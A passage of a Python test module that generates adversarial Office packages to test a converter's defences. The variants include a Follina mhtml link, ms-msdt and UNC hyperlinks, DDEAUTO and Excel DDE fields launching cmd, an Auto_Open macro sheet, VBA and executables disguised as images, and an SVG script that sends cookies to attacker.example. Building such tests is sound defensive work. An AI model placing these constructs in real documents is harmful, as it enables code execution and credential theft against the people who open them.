"""Package-level attacks on docx/xlsx/pptx: parts nothing refers to, media whose bytes are an
executable, HTML or an SVG with a script, part names differing only in case, external
relationships of every kind (remote template, Follina-style mhtml: OLE link, frames, sub
documents, external images, file:/UNC/ms-msdt: hyperlinks), VBA/ActiveX/OLE parts under names and
content types that lie, Excel external links, connections and macro sheets, PowerPoint actions
(ppaction://program, macro, ole) and OLE objects."""

from __future__ import annotations

import struct
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.converters.adversarial.bases import png_bytes
from tests.converters.adversarial.opc import Package
from tests.converters.adversarial.variants import Variant

ROOT = Path(__file__).resolve().parents[3]
VBA_PROJECT = ROOT / "samples" / "fixtures" / "vbaProject.bin"  # an OLE file with a real VBA project
MC_PREFIXES = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
MAIN = {"docx": "word/document.xml", "xlsx": "xl/workbook.xml", "pptx": "ppt/presentation.xml"}
IMAGE_SOURCE = {"docx": "word/document.xml", "xlsx": "xl/drawings/drawing1.xml", "pptx": "ppt/slides/slide2.xml"}
OLE_CT = "application/vnd.openxmlformats-officedocument.oleObject"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA_CT = "application/vnd.ms-office.vbaProject"
W_CT = "application/vnd.openxmlformats-officedocument.wordprocessingml"
X_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml"
SVG_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="16" height="16">'
              b'<script>fetch("http://attacker.example/"+document.cookie)</script><rect width="16" height="16"/></svg>')
HTML_SCRIPT = b"<html><body><script>new ActiveXObject('WScript.Shell').Run('calc')</script></body></html>"


def pe_bytes() -> bytes:
    """A minimal PE image header (what libmagic and Windows recognise as an executable)."""
    dos = bytearray(b"MZ" + b"\x90\x00" * 29)
    dos += b"\x00" * (0x3C - len(dos)) + struct.pack("<I", 0x80)
    dos += b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    dos += b"\x00" * (0x80 - len(dos))
    coff = struct.pack("<4sHHIIIHH", b"PE\x00\x00", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + coff + b"\x00" * 0xE0 + b".text\x00\x00\x00" + b"\x00" * 512


def vba() -> bytes:
    return VBA_PROJECT.read_bytes()


def _media(package: Package) -> str:
    return next(n for n in package.parts if "/media/" in n and n.endswith(".png"))


def _dir(extension: str) -> str:
    return MC_PREFIXES[extension]


# --- media and parts nothing refers to ----------------------------------------------------------
def exe_orphan(extension: str, package: Package) -> None:
    package.add_default("png", "image/png")
    package.parts[f"{_dir(extension)}/media/image9.png"] = pe_bytes()


def exe_related(extension: str, package: Package) -> None:
    package.add_default("png", "image/png")
    package.add_part(f"{_dir(extension)}/media/image9.png", pe_bytes(), None, IMAGE_SOURCE[extension], "image")


def image_bytes(data: bytes, package: Package) -> None:
    package.parts[_media(package)] = data


def svg_part(extension: str, package: Package) -> None:
    """An SVG picture as Office 2016+ stores one: an svgBlip next to the PNG fallback."""
    package.add_default("svg", "image/svg+xml")
    package.add_part(f"{_dir(extension)}/media/image10.svg", SVG_SCRIPT, None, IMAGE_SOURCE[extension], "image")


def html_orphan(extension: str, package: Package) -> None:
    package.add_part(f"{_dir(extension)}/payload.html", HTML_SCRIPT, "text/html")


def js_orphan(extension: str, package: Package) -> None:
    package.add_default("js", "application/javascript")
    package.parts[f"{_dir(extension)}/x.js"] = b"new ActiveXObject('WScript.Shell').Run('calc');"


def case_duplicate(package: Package) -> None:
    """The referenced image and a second entry whose name differs only in case, holding a PE."""
    name = _media(package)
    package.parts[name.rsplit("/", 1)[0] + "/" + name.rsplit("/", 1)[1].upper()] = pe_bytes()


def case_reference(package: Package) -> None:
    """The ZIP entry is named in another case than the relationship names it, and is a PE."""
    name = _media(package)
    del package.parts[name]
    package.parts[name.rsplit("/", 1)[0] + "/Image1.PNG"] = pe_bytes()


def vba_odd_name(extension: str, content_type: str, related: bool, package: Package) -> None:
    name = f"{_dir(extension)}/media/image8.png"
    package.parts[name] = vba()
    package.add_override(name, content_type)
    if related:
        package.add_relationship(MAIN[extension], "vbaProject", "media/image8.png")


def vba_upper_default(extension: str, package: Package) -> None:
    package.add_default("BIN", VBA_CT)
    package.add_part(f"{_dir(extension)}/vbaProject.BIN", vba(), None, MAIN[extension],
                     "http://schemas.microsoft.com/office/2006/relationships/vbaProject")


def custom_ui(package: Package) -> None:
    ui = (b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Module1.Boom">'
          b"<ribbon/></customUI>")
    package.add_part("customUI/customUI14.xml", ui, "application/xml", "",
                     "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility")


# --- Word: external relationships and embedded objects ------------------------------------------
def _body(package: Package, xml: str) -> None:
    package.insert_before_last("word/document.xml", "<w:sectPr", xml)


def _picture(blip: str) -> str:
    return ('<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
            'wordprocessingDrawing"><wp:extent cx="952500" cy="952500"/><wp:docPr id="903" name="Picture 903"/>'
            '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData '
            'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.'
            'openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="903" name="p.png"/><pic:cNvPicPr/>'
            f"</pic:nvPicPr><pic:blipFill>{blip}<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr>"
            '<a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect">'
            "<a:avLst/></a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing>"
            "</w:r></w:p>")


def attached_template(target: str, package: Package) -> None:
    rel = package.add_relationship("word/settings.xml", "attachedTemplate", target, external=True)
    zoom = '<w:zoom w:val="bestFit"/>'
    package.edit("word/settings.xml", zoom, f'{zoom}<w:attachedTemplate r:id="{rel}"/>')


def follina(package: Package) -> None:
    target = "mhtml:http://attacker.example/x.html!x-usc:http://attacker.example/x.html"
    rel = package.add_relationship("word/document.xml", "oleObject", target, external=True)
    _body(package, '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" '
                   f'ProgID="htmlfile" ShapeID="_x0000_i1025" DrawAspect="Content" r:id="{rel}" UpdateMode="OnCall">'
                   "<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>")


def frame(package: Package) -> None:
    rel = package.add_relationship("word/webSettings.xml", "frame", "http://attacker.example/frame.docx", external=True)
    package.edit("word/webSettings.xml", "<w:allowPNG/>",
                 f'<w:frameset><w:frame><w:name w:val="f1"/><w:sourceFileName r:id="{rel}"/></w:frame></w:frameset>'
                 "<w:allowPNG/>")


def sub_document(package: Package) -> None:
    rel = package.add_relationship("word/document.xml", "subDocument", r"\\attacker.example\share\sub.docx",
                                   external=True)
    _body(package, f'<w:p><w:subDoc r:id="{rel}"/></w:p>')


def external_image(target: str, package: Package) -> None:
    rel = package.add_relationship("word/document.xml", "image", target, external=True)
    _body(package, _picture(f'<a:blip r:link="{rel}"/>'))


def word_hyperlink(target: str, mode: str, package: Package) -> None:
    rel = package.add_relationship("word/document.xml", "hyperlink", target, target_mode=mode)
    _body(package, f'<w:p><w:hyperlink r:id="{rel}"><w:r><w:t>リンク</w:t></w:r></w:hyperlink></w:p>')


def alt_chunk(package: Package) -> None:
    rel = package.add_part("word/afchunk.htm", HTML_SCRIPT, "text/html", "word/document.xml", "aFChunk")
    _body(package, f'<w:altChunk r:id="{rel}"/>')


def word_ole(name: str, content_type: str, package: Package) -> None:
    rel = package.add_part(name, vba(), content_type, "word/document.xml", "oleObject")
    _body(package, '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                   f'Type="Embed" ProgID="Package" ShapeID="_x0000_i1026" DrawAspect="Icon" r:id="{rel}"/>'
                   "</w:object></w:r></w:p>")


def word_activex(name: str, package: Package) -> None:
    binary_name = name.rsplit(".", 1)[0] + ".bin"
    ocx = (b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="http://schemas.'
           b'openxmlformats.org/officeDocument/2006/relationships" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" '
           b'ax:persistence="persistStorage" r:id="rId1"/>')
    rel = package.add_part(name, ocx, "application/vnd.ms-office.activeX+xml", "word/document.xml", "control")
    package.parts[binary_name] = vba()
    package.add_override(binary_name, "application/vnd.ms-office.activeX")
    package.parts[name.rsplit("/", 1)[0] + "/_rels/" + name.rsplit("/", 1)[1] + ".rels"] = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/'
        f'office/2006/relationships/activeXControlBinary" Target="{binary_name.rsplit("/", 1)[1]}"/>'
        "</Relationships>").encode()
    _body(package, f'<w:p><w:r><w:object><w:control r:id="{rel}" w:name="TextBox1" w:shapeid="_x0000_s1027"/>'
                   "</w:object></w:r></w:p>")


def numbering_picture_bullet(package: Package) -> None:
    """A picture bullet (numbering part) whose picture is fetched from a share."""
    rel = package.add_relationship("word/numbering.xml", "image", r"\\attacker.example\share\b.png", external=True)
    package.insert_after_first("word/numbering.xml", r"<w:numbering[^>]*>",
                               '<w:numPicBullet w:numPicBulletId="0"><w:pict><v:shape id="_x0000_i1099" '
                               'type="#_x0000_t75" style="width:9pt;height:9pt"><v:imagedata '
                               f'r:id="{rel}" o:title=""/></v:shape></w:pict></w:numPicBullet>')


def external_font(package: Package) -> None:
    rel = package.add_relationship("word/fontTable.xml", "font", r"\\attacker.example\share\f.odttf", external=True)
    package.insert_before_last("word/fontTable.xml", "</w:fonts>",
                               f'<w:font w:name="Adv"><w:embedRegular r:id="{rel}" '
                               'w:fontKey="{00000000-0000-0000-0000-000000000001}"/></w:font>')


def theme_image(extension: str, package: Package) -> None:
    """A background fill style in the theme whose picture is linked from a share."""
    theme = next(n for n in package.parts if "/theme/theme" in n and n.endswith(".xml"))
    rel = package.add_relationship(theme, "image", r"\\attacker.example\share\t.png", external=True)
    package.insert_before_last(theme, "</a:bgFillStyleLst>",
                               f'<a:blipFill><a:blip xmlns:r="{REL_NS}" r:link="{rel}"/><a:stretch><a:fillRect/>'
                               "</a:stretch></a:blipFill>")


def custom_xml_script(package: Package) -> None:
    item = next(n for n in package.parts if n.startswith("customXml/item") and "Props" not in n and n.endswith(".xml"))
    package.parts[item] = b'<?xml version="1.0"?><root><html><body><script>alert(1)</script></body></html></root>'


def replace_bytes(part: str, data: bytes, package: Package) -> None:
    if part not in package.parts:
        raise KeyError(f"the base has no {part}")
    package.parts[part] = data


def mail_merge(package: Package) -> None:
    """A mail-merge data source: Word connects to it (and runs the query) when the document opens."""
    rel = package.add_relationship("word/settings.xml", "mailMergeSource", "file:///C:/x/db.accdb", external=True)
    query = "SELECT * FROM `t`"  # what the data source is asked (an SQL text inside the document)
    merge = ('<w:mailMerge><w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
             '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=C:\\x\\db.accdb"/>'
             f'<w:query w:val="{query}"/><w:dataSource r:id="{rel}"/></w:mailMerge>')
    zoom = '<w:zoom w:val="bestFit"/>'
    package.edit("word/settings.xml", zoom, zoom + merge)


def save_through_xslt(package: Package) -> None:
    rel = package.add_relationship("word/settings.xml", "transform", "http://attacker.example/t.xslt", external=True)
    package.insert_before_last("word/settings.xml", "</w:settings>", f'<w:saveThroughXslt r:id="{rel}"/>')


def vml_image(how: str, package: Package) -> None:
    if how == "rel":
        rel = package.add_relationship("word/document.xml", "image", r"\\attacker.example\share\v.png", external=True)
        data = f'r:id="{rel}"'
    else:
        data = 'src="\\\\attacker.example\\share\\v.png" o:href="file://attacker.example/share/v.png"'
    _body(package, '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-'
                   'microsoft-com:office:office" id="adv_img" style="width:20pt;height:20pt">'
                   f"<v:imagedata {data}/></v:shape></w:pict></w:r></w:p>")


def word_embedded_package(package: Package) -> None:
    inner = Package(_tiny_xlsx_with_dde())
    rel = package.add_part("word/embeddings/Microsoft_Excel_Worksheet1.xlsx", inner.to_bytes(), f"{X_CT}.sheet",
                           "word/document.xml", "package")
    _body(package, '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
                   f'Type="Embed" ProgID="Excel.Sheet.12" ShapeID="_x0000_i1028" DrawAspect="Content" r:id="{rel}"/>'
                   "</w:object></w:r></w:p>")


DDE_PARAGRAPH = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">'
                 ' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar '
                 'w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/>'
                 "</w:r></w:p>")


def main_part_elsewhere(package: Package) -> None:
    """The package relationship names word/main.xml (with a DDEAUTO field); the harmless
    word/document.xml that type detection looks at stays as a decoy nothing reaches."""
    package.insert_before_last("word/document.xml", "<w:sectPr", DDE_PARAGRAPH)
    planted = package.parts["word/document.xml"]
    package.rename("word/document.xml", "word/main.xml")
    package.parts["word/document.xml"] = planted.replace(DDE_PARAGRAPH.encode(), b"")
    package.add_override("word/document.xml", f"{W_CT}.document.main+xml")


def main_part_percent_encoded(package: Package) -> None:
    """The officeDocument relationship names the main part with a percent-encoded letter."""
    package.insert_before_last("word/document.xml", "<w:sectPr", DDE_PARAGRAPH)
    package.edit("_rels/.rels", 'Target="word/document.xml"', 'Target="word/%64ocument.xml"')


def duplicate_document(attack_last: bool, package: Package) -> None:
    """word/document.xml twice in the ZIP: the harmless one and one with a DDEAUTO field."""
    harmless = package.parts["word/document.xml"]
    package.insert_before_last("word/document.xml", "<w:sectPr", DDE_PARAGRAPH)
    planted = package.parts["word/document.xml"]
    if attack_last:
        package.parts["word/document.xml"] = harmless
        package.extra.append(("word/document.xml", planted))
    else:
        package.extra.append(("word/document.xml", harmless))


# --- Excel: external links, connections, macro sheets, hyperlinks -------------------------------
def external_link(kind: str, content_type: str, name: str, package: Package) -> None:
    if kind == "dde":
        body = ('<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
                "</ddeLink>")
    else:
        body = '<externalBook r:id="rId1"><sheetNames><sheetName val="S"/></sheetNames></externalBook>'
    xml = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.'
           'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
           f'2006/relationships">{body}</externalLink>').encode()
    rel = package.add_part(name, xml, content_type, "xl/workbook.xml", "externalLink")
    if kind != "dde":
        package.add_relationship(name, "externalLinkPath", kind, external=True)
    package.edit("xl/workbook.xml", "</sheets>", f'</sheets><externalReferences><externalReference r:id="{rel}"/>'
                                                  "</externalReferences>")


def external_ole_link(package: Package) -> None:
    """A linked OLE object kept in an external-link part (the object updates from a file)."""
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.'
           b'openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/'
           b'2006/relationships"><oleLink r:id="rId1" progId="Package"><oleItems><oleItem name="\'" advise="1" '
           b'preferPic="1"/></oleItems></oleLink></externalLink>')
    name = "xl/externalLinks/externalLink1.xml"
    rel = package.add_part(name, xml, f"{X_CT}.externalLink+xml", "xl/workbook.xml", "externalLink")
    package.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
        b'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats'
        b'.org/officeDocument/2006/relationships/oleObject" Target="file:///C:/x/payload.exe" TargetMode="External"/>'
        b"</Relationships>")
    package.edit("xl/workbook.xml", "</sheets>", f'</sheets><externalReferences><externalReference r:id="{rel}"/>'
                                                  "</externalReferences>")


def connection(content_type: str, package: Package) -> None:
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<connections xmlns="http://schemas.'
           b'openxmlformats.org/spreadsheetml/2006/main"><connection id="1" name="q" type="4" refreshOnLoad="1">'
           b'<webPr url="http://attacker.example/q" sourceData="1"/></connection></connections>')
    package.add_part("xl/connections.xml", xml, content_type, "xl/workbook.xml", "connections")


def macro_sheet(content_type: str, package: Package) -> None:
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<xm:macrosheet xmlns="http://schemas.'
           b'openxmlformats.org/spreadsheetml/2006/main" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/'
           b'main"><sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row><row r="2"><c r="A2">'
           b"<f>HALT()</f></c></row></sheetData></xm:macrosheet>")
    rel = package.add_part("xl/worksheets/sheet3.xml", xml, content_type, "xl/workbook.xml",
                           "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet")
    package.edit("xl/workbook.xml", "</sheets>",
                 f'<sheet name="M" sheetId="3" state="veryHidden" r:id="{rel}"/></sheets>')
    package.edit("xl/workbook.xml", "<definedNames>", '<definedNames><definedName name="_xlnm.Auto_Open">M!$A$1'
                                                      "</definedName>")


def web_publish(package: Package) -> None:
    """Republish a range to a file share every time the workbook is saved."""
    package.insert_before_last("xl/workbook.xml", "</workbook>",
                               '<webPublishObjects count="1"><webPublishObject id="1" divId="adv" '
                               'sourceObject="データ!A1:D4" destinationFile="\\\\attacker.example\\share\\p.htm" '
                               'autoRepublish="1"/>'
                               "</webPublishObjects>")


def chart_external_data(package: Package) -> None:
    rel = package.add_relationship("xl/charts/chart1.xml", "oleObject", "file:///C:/x/data.xlsx", external=True)
    package.insert_before_last("xl/charts/chart1.xml", "</c:chartSpace>",
                               f'<c:externalData r:id="{rel}"><c:autoUpdate val="1"/></c:externalData>')


def sheet_hyperlink(target: str, package: Package) -> None:
    sheet = "xl/worksheets/sheet1.xml"
    rel = package.add_relationship(sheet, "hyperlink", target, external=True)
    package.edit(sheet, "<pageMargins", f'<hyperlinks><hyperlink ref="A1" r:id="{rel}"/></hyperlinks><pageMargins')


# --- PowerPoint ---------------------------------------------------------------------------------
SLIDE = "ppt/slides/slide2.xml"
SHAPE = '<p:cNvPr id="2" name="TextBox 1"/>'


def action(target: str | None, verb: str, element: str, part: str, package: Package) -> None:
    rel = package.add_relationship(part, "hyperlink", target, external=True) if target else ""
    click = f'<a:{element} r:id="{rel}" action="{verb}"/>' if verb else f'<a:{element} r:id="{rel}"/>'
    if part == SLIDE:
        package.edit(part, SHAPE, SHAPE[:-2] + f">{click}</p:cNvPr>")
    else:  # the first shape of a layout
        text = package.text(part)
        at = text.index("<p:cNvPr", text.index("<p:sp>"))
        end = text.index("/>", at)
        package.set_text(part, text[:end] + f">{click}</p:cNvPr>" + text[end + 2:])


def slide_media(kind: str, package: Package) -> None:
    """A sound on click or a linked video: both fetched from a share when the slide shows."""
    target = r"\\attacker.example\share\m.wav"
    if kind == "sound":
        rel = package.add_relationship(SLIDE, "audio", target, external=True)
        package.edit(SLIDE, SHAPE, SHAPE[:-2] + f'><a:hlinkClick r:id=""><a:snd r:embed="{rel}" name="m.wav"/>'
                                                '</a:hlinkClick></p:cNvPr>')
    else:
        rel = package.add_relationship(SLIDE, "video", target.replace(".wav", ".mp4"), external=True)
        package.edit(SLIDE, '<p:nvPr/></p:nvSpPr>', f'<p:nvPr><a:videoFile r:link="{rel}"/></p:nvPr></p:nvSpPr>')


def slide_activex(package: Package) -> None:
    ocx = (b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid='
           b'"{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistPropertyBag"><ax:ocxPr ax:name="Caption" '
           b'ax:value="x"/></ax:ocx>')
    rel = package.add_part("ppt/activeX/activeX1.xml", ocx, "application/vnd.ms-office.activeX+xml", SLIDE, "control")
    package.edit(SLIDE, "</p:spTree>", '</p:spTree><p:controls><p:control name="TextBox1" r:id="'
                                       f'{rel}" imgW="914400" imgH="914400"/></p:controls>')


def timing_verb(package: Package) -> None:
    """An animation step that sends an OLE verb to a shape when the slide shows (no click)."""
    package.insert_before_last(SLIDE, "</p:sld>",
                               '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" restart="never" '
                               'nodeType="tmRoot"><p:childTnLst><p:cmd type="verb" cmd="0"><p:cBhvr><p:cTn id="2" '
                               'dur="1" fill="hold"/><p:tgtEl><p:spTgt spid="2"/></p:tgtEl></p:cBhvr></p:cmd>'
                               "</p:childTnLst></p:cTn></p:par></p:tnLst></p:timing>")


def run_link(target: str, package: Package) -> None:
    package.edit("ppt/slides/_rels/slide2.xml.rels", 'Target="https://www.example.lg.jp/report"', f'Target="{target}"')


def _graphic_frame(rel: str, prog_id: str, link: bool) -> str:
    kind = '<p:link updateAutomatic="1"/>' if link else '<p:embed/>'
    return ('<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="9" name="Object 9"/><p:cNvGraphicFramePr/><p:nvPr/>'
            '</p:nvGraphicFramePr><p:xfrm><a:off x="0" y="0"/><a:ext cx="914400" cy="914400"/></p:xfrm><a:graphic>'
            '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
            f'<p:oleObj name="Object" r:id="{rel}" imgW="914400" imgH="914400" progId="{prog_id}">{kind}</p:oleObj>'
            "</a:graphicData></a:graphic></p:graphicFrame>")


def slide_ole(kind: str, package: Package) -> None:
    if kind == "embedded":
        rel = package.add_part("ppt/embeddings/oleObject1.bin", vba(), OLE_CT, SLIDE, "oleObject")
        frame_xml = _graphic_frame(rel or "", "Package", link=False)
    elif kind == "package-with-dde":
        inner = Package({})
        inner.parts = _tiny_xlsx_with_dde()
        rel = package.add_part("ppt/embeddings/Microsoft_Excel_Worksheet1.xlsx", inner.to_bytes(),
                               f"{X_CT}.sheet", SLIDE, "package")
        frame_xml = _graphic_frame(rel or "", "Excel.Sheet.12", link=False)
    else:
        rel = package.add_relationship(SLIDE, "oleObject", "file:///C:/x/book.xlsx", external=True)
        frame_xml = _graphic_frame(rel, "Excel.Sheet.12", link=True)
    package.insert_before_last(SLIDE, "</p:spTree>", frame_xml)


def _tiny_xlsx_with_dde() -> dict[str, bytes]:
    x = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    r = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
                                'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.'
                                'openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="'
                                'application/xml"/><Override PartName="/xl/workbook.xml" ContentType="'
                                f'{X_CT}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="'
                                f'{X_CT}.worksheet+xml"/></Types>'),
        "_rels/.rels": (f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                        f'package/2006/relationships"><Relationship Id="rId1" Type="{r}/officeDocument" '
                        'Target="xl/workbook.xml"/></Relationships>'),
        "xl/workbook.xml": (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{x}" xmlns:r="{r}"><sheets>'
                            '<sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'),
        "xl/_rels/workbook.xml.rels": ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                                       f'openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                                       f'Type="{r}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'),
        "xl/worksheets/sheet1.xml": (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{x}"><sheetData>'
                                     "<row r=\"1\"><c r=\"A1\"><f>cmd|'/c calc'!A0</f><v>0</v></c></row>"
                                     "</sheetData></worksheet>"),
    }
    return {name: text.encode() for name, text in parts.items()}


# --- the list -----------------------------------------------------------------------------------
def _generic(extension: str) -> dict[str, Callable[[Package], None]]:
    folder = _dir(extension)
    return {
        "exe-as-png-no-relationship": partial(exe_orphan, extension),
        "exe-as-png-with-image-relationship": partial(exe_related, extension),
        "image-bytes-are-PE": partial(image_bytes, pe_bytes()),
        "image-bytes-are-SVG-with-script": partial(image_bytes, SVG_SCRIPT),
        "image-bytes-are-HTML": partial(image_bytes, HTML_SCRIPT),
        "svg-part-with-script": partial(svg_part, extension),
        "html-part-no-relationship": partial(html_orphan, extension),
        "js-part-no-relationship": partial(js_orphan, extension),
        "case-duplicate-part-PE": case_duplicate,
        "case-differing-entry-PE": case_reference,
        "vba-as-png-with-relationship": partial(vba_odd_name, extension, VBA_CT, True),
        "vba-as-png-content-type-image": partial(vba_odd_name, extension, "image/png", True),
        "vba-as-png-no-relationship": partial(vba_odd_name, extension, "image/png", False),
        "vba-default-extension-upper-case": partial(vba_upper_default, extension),
        "customUI-onLoad": custom_ui,
        f"ole-bytes-as-{folder}-theme-part": lambda p: p.parts.__setitem__(f"{folder}/theme/theme9.bin", vba()),
        "png-with-PE-appended": partial(image_bytes, png_bytes() + pe_bytes()),
        "theme-background-image-unc": partial(theme_image, extension),
    }


def package_variants() -> list[Variant]:
    out: list[Variant] = []
    for extension, base in (("docx", "word.docx"), ("xlsx", "excel.xlsx"), ("pptx", "slides.pptx")):
        for construct, build in _generic(extension).items():
            out.append(Variant("package", construct, "plain", "package", base, build))
    word: dict[str, Callable[[Package], None]] = {
        "attachedTemplate-http": partial(attached_template, "http://attacker.example/t.dotm"),
        "attachedTemplate-unc": partial(attached_template, r"\\attacker.example\share\t.dotm"),
        "attachedTemplate-file": partial(attached_template, "file:///C:/x/t.dotm"),
        "oleObject-mhtml-follina": follina,
        "frame-http": frame,
        "subDocument-unc": sub_document,
        "image-external-http": partial(external_image, "http://attacker.example/beacon.png"),
        "image-external-unc": partial(external_image, r"\\attacker.example\share\a.png"),
        "hyperlink-file": partial(word_hyperlink, "file:///C:/Windows/System32/calc.exe", "External"),
        "hyperlink-unc": partial(word_hyperlink, r"\\attacker.example\share\a.exe", "External"),
        "hyperlink-ms-msdt": partial(word_hyperlink, "ms-msdt:/id PCWDiagnostic /skip force", "External"),
        "hyperlink-file-mode-lowercase": partial(word_hyperlink, " FILE:///C:/x/a.exe", "external"),
        "altChunk-html": alt_chunk,
        "oleObject-embedded": partial(word_ole, "word/embeddings/oleObject1.bin", OLE_CT),
        "oleObject-as-emf": partial(word_ole, "word/media/image7.emf", OLE_CT),
        "oleObject-as-emf-content-type-emf": partial(word_ole, "word/media/image7.emf", "image/x-emf"),
        "activeX": partial(word_activex, "word/activeX/activeX1.xml"),
        "activeX-odd-name": partial(word_activex, "word/media/ctl1.xml"),
        "mailMerge-dataSource": mail_merge,
        "saveThroughXslt-http": save_through_xslt,
        "vml-imagedata-external-unc": partial(vml_image, "rel"),
        "vml-imagedata-src-unc": partial(vml_image, "src"),
        "embedded-xlsx-with-dde": word_embedded_package,
        "hyperlink-file-host": partial(word_hyperlink, "file://attacker.example/share/a.exe", "External"),
        "hyperlink-relative-path": partial(word_hyperlink, "..\\..\\Windows\\System32\\calc.exe", "External"),
        "duplicate-document-entry-planted-last": partial(duplicate_document, True),
        "duplicate-document-entry-planted-first": partial(duplicate_document, False),
        "main-part-elsewhere-decoy-document": main_part_elsewhere,
        "main-part-target-percent-encoded": main_part_percent_encoded,
        "numbering-picture-bullet-unc": numbering_picture_bullet,
        "fontTable-external-font-unc": external_font,
        "customXml-item-script": custom_xml_script,
        "thumbnail-is-PE": partial(replace_bytes, "docProps/thumbnail.jpeg", pe_bytes()),
        "hyperlink-file-targetmode-trailing-space": partial(word_hyperlink, "file:///C:/x/a.exe", "External "),
    }
    for construct, build in word.items():
        out.append(Variant("package", construct, "plain", "word", "word.docx", build))
    excel: dict[str, Callable[[Package], None]] = {
        "externalLink-dde": partial(external_link, "dde", f"{X_CT}.externalLink+xml",
                                    "xl/externalLinks/externalLink1.xml"),
        "externalLink-file": partial(external_link, "file:///C:/x/a.xlsx", f"{X_CT}.externalLink+xml",
                                     "xl/externalLinks/externalLink1.xml"),
        "externalLink-unc": partial(external_link, r"\\attacker.example\share\a.xlsx", f"{X_CT}.externalLink+xml",
                                    "xl/externalLinks/externalLink1.xml"),
        "externalLink-dde-odd-name-type-case": partial(external_link, "dde", f"{X_CT}.EXTERNALLINK+xml",
                                                       "xl/media/ext1.xml"),
        "connection-web": partial(connection, f"{X_CT}.connections+xml"),
        "connection-web-type-case": partial(connection, f"{X_CT}.Connections+XML"),
        "macrosheet-auto-open": partial(macro_sheet, "application/vnd.ms-excel.macrosheet+xml"),
        "macrosheet-type-case": partial(macro_sheet, "application/vnd.ms-excel.MacroSheet+xml"),
        "macrosheet-as-worksheet-type": partial(macro_sheet, f"{X_CT}.worksheet+xml"),
        "sheet-hyperlink-file": partial(sheet_hyperlink, "file:///C:/Windows/System32/calc.exe"),
